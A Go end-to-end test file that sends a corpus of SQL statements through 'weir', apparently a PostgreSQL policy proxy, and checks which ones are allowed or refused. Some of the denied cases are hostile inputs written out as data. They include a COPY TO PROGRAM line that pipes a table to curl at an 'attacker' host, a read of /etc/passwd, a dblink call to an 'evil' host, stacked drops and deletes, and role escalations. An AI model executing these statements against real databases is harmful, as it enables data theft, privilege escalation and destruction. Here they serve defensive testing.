package e2e

// The PostgreSQL part of ../shared/corpus/postgres.md, run through weir
// against the real server, with three real clients: pgx in simple
// protocol (Exec without arguments, corpus P03), pgx in extended protocol,
// and psql. A denied statement must come back as SQLSTATE 42501 (or a
// parse refusal) AND must never appear in the server's statement log; an
// allowed one must appear there (so the check can fail).

import (
	"context"
	"errors"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgconn"
)

type verdict int

const (
	allow verdict = iota
	deny
)

var corpus = []struct {
	id, sql string
	want    verdict
	// multi marks multi-statement messages (the extended protocol cannot
	// carry them, so that mode only checks denials).
	multi bool
}{
	{"read", "SELECT count(*) FROM customers", allow, false},
	{"scratch write", "INSERT INTO scratch(note) VALUES ('ok')", allow, false},
	{"P01 stacked drop", "SELECT 1; DROP TABLE scratch", deny, true},
	{"P01 stacked delete", "SELECT 1; DELETE FROM orders", deny, true},
	{"P02 read-write escape", "COMMIT; SET TRANSACTION READ WRITE; DELETE FROM orders", deny, true},
	{"P02 default_transaction_read_only", "SET default_transaction_read_only = off", deny, false},
	{"P02 session characteristics", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", deny, false},
	{"P07 comment first", "/* x */ DELETE FROM orders WHERE id = -1", deny, false},
	{"P07 line comment first", "-- x\nDELETE FROM orders WHERE id = -1", deny, false},
	{"P08 mixed case", "dElEtE FROM orders WHERE id = -1", deny, false},
	{"P08 tab whitespace", "DELETE\tFROM\torders WHERE id = -1", deny, false},
	{"P08 unicode escape identifier", `SELECT * FROM U&"\0073ecrets"`, deny, false},
	{"P08 quoted identifier", `SELECT * FROM "secrets"`, deny, false},
	{"P08 NBSP", "DELETE\u00a0FROM orders WHERE id = -1", deny, false},
	{"P09 dollar quote is one literal", "SELECT $x$; DROP TABLE scratch; $x$", allow, false},
	{"P10 DO block", "DO $$BEGIN EXECUTE format('DELETE FROM %I','orders'); END$$", deny, false},
	{"P11 set_config role", "SELECT set_config('role', 'postgres', false)", deny, false},
	{"P11 terminate backend", "SELECT pg_terminate_backend(1)", deny, false},
	{"P11 unknown function", "SELECT cleanup()", deny, false},
	{"P12 writable CTE", "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", deny, false},
	{"P13 select into", "SELECT * INTO stash FROM customers", deny, false},
	{"P13 create table as", "CREATE TABLE stash AS SELECT * FROM customers", deny, false},
	{"P14 copy to program", "COPY customers TO PROGRAM 'curl -d @- http://attacker'", deny, false},
	{"P16 pg_read_file", "SELECT pg_read_file('/etc/passwd')", deny, false},
	{"P16 lo_export", "SELECT lo_export(1, '/tmp/x')", deny, false},
	{"P16 dblink", "SELECT dblink_exec('host=evil', 'DELETE FROM orders')", deny, false},
	{"P17 set role", "SET ROLE postgres", deny, false},
	{"P17 reset role", "RESET ROLE", deny, false},
	{"P17 session authorization", "SET SESSION AUTHORIZATION postgres", deny, false},
	{"P17 search_path", "SET search_path = evil, public", deny, false},
	{"P17 set_config search_path", "SELECT set_config('search_path', 'evil,public', false)", deny, false},
	{"P17 shadow function", "CREATE FUNCTION public.lower(text) RETURNS text AS 'SELECT $1' LANGUAGE sql", deny, false},
	{"ddl drop", "DROP TABLE scratch", deny, false},
	{"prod write needs review", "UPDATE orders SET total_cents = 0 WHERE id = -1", deny, false},
	{"secrets table", "SELECT * FROM secrets", deny, false},
	{"secrets in subquery", "SELECT (SELECT value FROM secrets LIMIT 1)", deny, false},
	{"unparseable", "SELEC 1", deny, false},
}

func TestCorpusThroughWeir(t *testing.T) {
	ctx := context.Background()
	for _, mode := range []string{"pgx-simple", "pgx-extended", "psql"} {
		t.Run(mode, func(t *testing.T) {
			tok, _ := token(t, "ci-bot", time.Hour)
			var conn *pgx.Conn
			if mode != "psql" {
				var err error
				conn, err = pgx.Connect(ctx, dsn(tok, "shop", "require"))
				if err != nil {
					t.Fatal(err)
				}
				defer conn.Close(ctx)
			}
			for _, tc := range corpus {
				if mode == "pgx-extended" && tc.multi && tc.want == allow {
					continue
				}
				t.Run(tc.id, func(t *testing.T) {
					mark := marker(t)
					sql := mark + " " + tc.sql
					var err error
					var out string
					switch mode {
					case "pgx-simple":
						_, err = conn.Exec(ctx, sql)
					case "pgx-extended":
						_, err = conn.Exec(ctx, sql, pgx.QueryExecModeExec)
					case "psql":
						out, err = psql(t, dsn(tok, "shop", "require"), sql)
					}
					saw := serverSaw(t, mark)
					switch tc.want {
					case allow:
						if err != nil {
							t.Fatalf("allowed statement failed: %v %s", err, out)
						}
						if !saw {
							t.Fatalf("allowed statement never reached the server")
						}
					case deny:
						if err == nil {
							t.Fatalf("denied statement succeeded")
						}
						if saw {
							t.Fatalf("DENIED STATEMENT REACHED POSTGRESQL: %s", tc.sql)
						}
						checkRefusal(t, err, out)
					}
					// The session stays usable after a refusal.
					if mode != "psql" {
						var one int
						if err := conn.QueryRow(ctx, "SELECT 1").Scan(&one); err != nil || one != 1 {
							t.Fatalf("session unusable after %s: %v", tc.id, err)
						}
					}
				})
			}
		})
	}
}

func checkRefusal(t *testing.T, err error, psqlOut string) {
	t.Helper()
	var pe *pgconn.PgError
	if errors.As(err, &pe) {
		if pe.Code != "42501" && pe.Code != "42601" {
			t.Fatalf("refusal has SQLSTATE %s (%s), want 42501 or 42601", pe.Code, pe.Message)
		}
		if !strings.Contains(pe.Message, "weir") {
			t.Fatalf("refusal does not say it is weir's: %s", pe.Message)
		}
		return
	}
	if psqlOut != "" {
		if !strings.Contains(psqlOut, "weir") {
			t.Fatalf("psql output does not carry weir's refusal: %s", psqlOut)
		}
		return
	}
	t.Fatalf("refusal is not a PostgreSQL error: %v", err)
}

// psql runs the real psql client with one -c command.
func psql(t testing.TB, conninfo, sql string, extra ...string) (string, error) {
	t.Helper()
	bin, err := exec.LookPath("psql")
	if err != nil {
		t.Fatal("psql not installed (scripts/deps.sh installs it)")
	}
	args := append([]string{conninfo, "-X", "-q", "-v", "ON_ERROR_STOP=1", "-At", "-c", sql}, extra...)
	cmd := exec.Command(bin, args...)
	cmd.Env = append(cmd.Environ(), "PGCONNECT_TIMEOUT=10")
	out, err := cmd.CombinedOutput()
	return string(out), err
}
